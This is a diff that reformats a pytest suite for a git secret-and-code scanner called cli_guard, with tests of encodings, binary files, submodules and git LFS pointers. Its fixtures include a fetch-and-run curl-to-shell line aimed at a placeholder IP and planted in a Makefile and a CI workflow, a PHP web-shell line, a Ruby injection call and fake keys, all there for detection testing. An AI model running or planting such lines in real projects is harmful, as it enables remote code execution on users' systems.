@@ -8,13 +8,21 @@ import pytest
 from examples import table
 from repositories import Repo, key, placed
 
-from cli_guard.git.contents import BlobContents, BlobReader, decode, printable_runs, runs_between
+from cli_guard.git.contents import (
+    BlobContents,
+    BlobReader,
+    decode,
+    printable_runs,
+    runs_between,
+)
 from cli_guard.git.process import Git
 from cli_guard.model import Decision
 from cli_guard.review.request import Commit, Request, Staged, Worktree
 
 SECRET = f'KEY = "{key()}"\n'
-POINTER = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'4d7a' * 16}\nsize 1234\n"
+POINTER = (
+    f"version https://git-lfs.github.com/spec/v1\noid sha256:{'4d7a' * 16}\nsize 1234\n"
+)
 
 BINARY = bytes(range(256)) * 4
 
@@ -33,24 +41,38 @@ def stage(repo: Repo, name: str, content: str | bytes) -> None:
         pytest.param(b"# caf\xe9\n\n" + SECRET.encode(), 3, id="latin-1"),
         pytest.param(b"\xef\xbb\xbf" + SECRET.encode(), 1, id="UTF-8 with a mark"),
         pytest.param(f"a = 1\nb = 2\n{SECRET}".encode("utf-16"), 3, id="UTF-16 LE"),
-        pytest.param(b"\xfe\xff" + f"a = 1\nb = 2\n{SECRET}".encode("utf-16-be"), 3, id="UTF-16 BE"),
+        pytest.param(
+            b"\xfe\xff" + f"a = 1\nb = 2\n{SECRET}".encode("utf-16-be"), 3, id="UTF-16 BE"
+        ),
         pytest.param(f"a = 1\n{SECRET}".encode("utf-32"), 2, id="UTF-32"),
         pytest.param(
-            b"a\x0cb\x0bc\x1c\rd\xc2\x85e\xe2\x80\xa8\n" + SECRET.encode(), 2, id="line ends that are none"
+            b"a\x0cb\x0bc\x1c\rd\xc2\x85e\xe2\x80\xa8\n" + SECRET.encode(),
+            2,
+            id="line ends that are none",
         ),
         pytest.param(
-            b"-- a\n++ b\n@@ -1 +1 @@\ndiff --git a/x b/x\n" + SECRET.encode(), 5, id="looks like a patch"
+            b"-- a\n++ b\n@@ -1 +1 @@\ndiff --git a/x b/x\n" + SECRET.encode(),
+            5,
+            id="looks like a patch",
         ),
         pytest.param(b"x\0" + SECRET.encode(), 1, id="one NUL"),
-        pytest.param(f"a = 1\n{SECRET}".encode("utf-16-le"), 2, id="UTF-16 LE without a mark"),
-        pytest.param(f"a = 1\n{SECRET}".encode("utf-16-be"), 2, id="UTF-16 BE without a mark"),
-        pytest.param(b"x\n" * 9_000 + b"\0\n" + SECRET.encode(), 9_002, id="a NUL far down"),
+        pytest.param(
+            f"a = 1\n{SECRET}".encode("utf-16-le"), 2, id="UTF-16 LE without a mark"
+        ),
+        pytest.param(
+            f"a = 1\n{SECRET}".encode("utf-16-be"), 2, id="UTF-16 BE without a mark"
+        ),
+        pytest.param(
+            b"x\n" * 9_000 + b"\0\n" + SECRET.encode(), 9_002, id="a NUL far down"
+        ),
     ],
 )
 @pytest.mark.parametrize(
     "request_", [Staged(), Worktree(), Commit("HEAD")], ids=["staged", "worktree", "commit"]
 )
-def test_a_secret_is_found_on_its_line(committed: Repo, content: bytes, line: int, request_: Request) -> None:
+def test_a_secret_is_found_on_its_line(
+    committed: Repo, content: bytes, line: int, request_: Request
+) -> None:
     committed.write("new.txt", content)
     if not isinstance(request_, Worktree):
         committed.git("add", "-A")
@@ -60,7 +82,9 @@ def test_a_secret_is_found_on_its_line(committed: Repo, content: bytes, line: in
 
 
 @pytest.mark.parametrize("encoding", ["utf-16", "latin-1", "utf-8"])
-def test_a_secret_added_to_a_file_is_the_only_one_reported(committed: Repo, encoding: str) -> None:
+def test_a_secret_added_to_a_file_is_the_only_one_reported(
+    committed: Repo, encoding: str
+) -> None:
     committed.commit("Old", {"old.txt": f"é\n{SECRET}b = 1\n".encode(encoding)})
     fresh = SECRET.replace("KEY", "FRESH")
     stage(committed, "old.txt", f"é\n{SECRET}b = 1\nc = 2\n{fresh}".encode(encoding))
@@ -88,14 +112,19 @@ def test_binary_empty_and_deleted_files(committed: Repo) -> None:
     assert [(each.path, each.reason) for each in review.skipped] == [
         ("logo.png", "binary: searched only for keys")
     ]
-    assert "not reviewed: logo.png (binary: searched only for keys)" in committed.inspect("review").out
+    assert (
+        "not reviewed: logo.png (binary: searched only for keys)"
+        in committed.inspect("review").out
+    )
 
 
 @pytest.mark.parametrize("encoding", ["ascii", "utf-16-le", "utf-16-be"])
 @pytest.mark.parametrize(
     "request_", [Staged(), Worktree(), Commit("HEAD")], ids=["staged", "worktree", "commit"]
 )
-def test_a_key_in_a_binary_file_is_found(committed: Repo, encoding: str, request_: Request) -> None:
+def test_a_key_in_a_binary_file_is_found(
+    committed: Repo, encoding: str, request_: Request
+) -> None:
     committed.write("a.bin", BINARY + b"\x01" + SECRET.strip().encode(encoding) + BINARY)
     if not isinstance(request_, Worktree):
         committed.git("add", "-A")
@@ -113,9 +142,7 @@ def test_a_key_that_a_binary_file_held_before_is_not_reported(committed: Repo) -
 
 
 def test_words_in_a_binary_file_are_no_code(committed: Repo) -> None:
-    text = (
-        b"\n<<<<<<< ours\n=======\n>>>>>>> theirs\nbreakpoint()\neval(input())\npassword = 'Zx4!kQ93mmPq'\n"
-    )
+    text = b"\n<<<<<<< ours\n=======\n>>>>>>> theirs\nbreakpoint()\neval(input())\npassword = 'Zx4!kQ93mmPq'\n"
     stage(committed, "a.dat", BINARY + text + BINARY)
     assert committed.look().findings == ()
 
@@ -131,7 +158,10 @@ FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh\n"
         ("a.rb", 'system("r #{params[:x]}")\n__END__\n'),
         ("a.php", "<?php system($_GET['c']);\n__halt_compiler();\n"),
         ("Makefile", f"all:\n\t{FETCH}#\n"),
-        (".github/workflows/a.yml", f"on: push\njobs: {{a: {{steps: [{{run: '{FETCH.strip()}'}}]}}}}\n#\n"),
+        (
+            ".github/workflows/a.yml",
+            f"on: push\njobs: {{a: {{steps: [{{run: '{FETCH.strip()}'}}]}}}}\n#\n",
+        ),
     ],
 )
 @table("tail", [BINARY, b"\x80\xff\n" * 90 + BINARY, b"\0" * 4_000])
@@ -173,7 +203,9 @@ def test_bytes_that_are_not_read_ask_where_they_run_and_are_new(
 
 def test_a_key_behind_the_text_is_found_once(committed: Repo) -> None:
     stage(committed, "a.sh", b"#!/bin/sh\nexit\n" + BINARY + SECRET.encode() + BINARY)
-    assert [each.finding.rule for each in committed.look().findings].count("secret-aws-access-key") == 1
+    assert [each.finding.rule for each in committed.look().findings].count(
+        "secret-aws-access-key"
+    ) == 1
 
 
 @table(
@@ -181,8 +213,12 @@ def test_a_key_behind_the_text_is_found_once(committed: Repo) -> None:
     [
         pytest.param(b"a = 1\nb\0c = 2", "a = 1\nb\ufffdc = 2", id="one NUL"),
         pytest.param(b"\0" * 9, None, id="NULs alone"),
-        pytest.param("é\n".encode("utf-16-be") + "a = 1\n".encode("utf-16-be"), "é\na = 1\n", id="BE"),
-        pytest.param(b"a b " * 99 + b"\0" + "日本".encode(), "a b " * 99 + "\ufffd日本", id="UTF-8"),
+        pytest.param(
+            "é\n".encode("utf-16-be") + "a = 1\n".encode("utf-16-be"), "é\na = 1\n", id="BE"
+        ),
+        pytest.param(
+            b"a b " * 99 + b"\0" + "日本".encode(), "a b " * 99 + "\ufffd日本", id="UTF-8"
+        ),
         pytest.param(b"a\0" + bytes(range(1, 32)), None, id="controls"),
         pytest.param(bytes(range(128, 256)) + b"\0", None, id="no UTF-8"),
         pytest.param(b"\x01\0\x02\0\x03\0" * 9, None, id="numbers"),
@@ -195,11 +231,15 @@ def test_what_is_text(raw: bytes, text: str | None) -> None:
 def test_runs_of_text_in_binary_files() -> None:
     wide = "wide text"
     for encoded in (wide.encode("utf-16-le"), wide.encode("utf-16-be")):
-        assert printable_runs(b"\x01short\x01\x80long enough\nhere\x80" + encoded + b"\xff") == [
+        assert printable_runs(
+            b"\x01short\x01\x80long enough\nhere\x80" + encoded + b"\xff"
+        ) == [
             "long enough\nhere",
             wide,
         ]
-    (hunk,) = runs_between(b"\x01the same\x01what goes", b"\x02the same\x02what comes\x02and more")
+    (hunk,) = runs_between(
+        b"\x01the same\x01what goes", b"\x02the same\x02what comes\x02and more"
+    )
     assert (hunk.removed, hunk.added) == (("what goes",), ("what comes", "\0and more"))
     assert runs_between(b"\x01the same\x01what goes", b"the same") == ()
 
@@ -260,10 +300,20 @@ def test_a_pointer_of_git_lfs_is_quiet(committed: Repo) -> None:
     assert (review.decision, review.findings) == (Decision.ALLOW, ())
 
 
-def test_a_submodule_is_left_to_its_own_repository(committed: Repo, isolated: dict[str, str]) -> None:
+def test_a_submodule_is_left_to_its_own_repository(
+    committed: Repo, isolated: dict[str, str]
+) -> None:
     library = Repo.create(committed.path.parent / "library", isolated)
     first = library.commit("Start", {"lib.py": "a = 1\n"})
-    committed.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library.path), "lib")
+    committed.git(
+        "-c",
+        "protocol.file.allow=always",
+        "submodule",
+        "add",
+        "-q",
+        str(library.path),
+        "lib",
+    )
     committed.commit("Add a submodule")
     inner = Repo(committed.path / "lib", isolated)
     inner.commit("Key", {"key.py": SECRET})
@@ -271,7 +321,9 @@ def test_a_submodule_is_left_to_its_own_repository(committed: Repo, isolated: di
     committed.git("config", "-f", ".gitmodules", "submodule.lib.ignore", "all")
     committed.git("add", ".gitmodules")
     committed.git("commit", "-q", "-m", "Ignore")
-    committed.git("update-index", "--cacheinfo", f"160000,{inner.git('rev-parse', 'HEAD')},lib")
+    committed.git(
+        "update-index", "--cacheinfo", f"160000,{inner.git('rev-parse', 'HEAD')},lib"
+    )
     review = committed.look()
     assert (review.files, placed(review)) == (1, [])
     assert [(each.path, each.reason) for each in review.skipped] == [
@@ -285,7 +337,9 @@ def test_a_submodule_is_left_to_its_own_repository(committed: Repo, isolated: di
 @pytest.mark.parametrize(
     "others", [{}, {"a.py": "y = 2\n", "zz.py": "z = 3\n"}], ids=["alone", "among changes"]
 )
-def test_a_file_of_which_only_the_time_differs_is_no_change(committed: Repo, others: dict[str, str]) -> None:
+def test_a_file_of_which_only_the_time_differs_is_no_change(
+    committed: Repo, others: dict[str, str]
+) -> None:
     committed.commit("Others", dict.fromkeys(others, "old = 1\n"))
     # Git trusts a time stamp that is older than its index.
     past = committed.path / "app.py"
@@ -332,16 +386,21 @@ def test_a_missing_object_is_one_clear_line(committed: Repo) -> None:
 
 def test_words_are_found_in_the_index_and_in_a_commit(committed: Repo) -> None:
     committed.commit(
-        "one", {"a.py": "import Flask\n", "b/c.txt": "flask-login, flask\n", "d.bin": b"\0flask"}
+        "one",
+        {"a.py": "import Flask\n", "b/c.txt": "flask-login, flask\n", "d.bin": b"\0flask"},
     )
     committed.write("a.py", "import requests\n")
     committed.git("add", "-A")
     git = Git(committed.path, committed.env)
 
     def found(contents: BlobContents, *words: str) -> list[tuple[str, str]]:
-        return [(hit.path, hit.text) for hit in contents.search(words, ("*",), alone=True).found]
+        return [
+            (hit.path, hit.text) for hit in contents.search(words, ("*",), alone=True).found
+        ]
 
     with BlobReader(git, blob_limit=10) as reader:
         assert found(BlobContents(reader), "flask", "nothing") == [("b/c.txt", "flask")] * 2
-        assert ("a.py", "Flask") in found(BlobContents(reader, "HEAD"), "flask", "flask-login")
+        assert ("a.py", "Flask") in found(
+            BlobContents(reader, "HEAD"), "flask", "flask-login"
+        )
         assert found(BlobContents(reader, "HEAD"), "requests") == []
